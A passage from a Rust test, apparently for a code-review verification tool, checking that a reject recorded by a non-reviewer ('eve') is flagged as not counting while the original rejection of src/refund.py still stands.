    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "rejected");
    assert_eq!(failure["path"], "src/refund.py");
    assert!(failure["reason"].as_str().unwrap().contains(comment), "{failure:#}");
    // A reject by someone who was a reviewer neither here nor where their
    // record says they cast it counts for nothing.
    let fingerprint = failure["fingerprint"].as_str().unwrap().to_string();
    world.decide(&a, &fingerprint, Decision { verdict: Verdict::Reject, key: None, ..Decision::by("eve") });
    let (_, report) = a.verify("origin/main..HEAD");
    let failure = only_failure(&report, "rejected");
    assert!(failure["reason"].as_str().unwrap().contains(comment), "{failure:#}");
    assert!(details(failure).iter().any(|d| d.contains("eve@example.com is not a reviewer")), "{failure:#}");
}
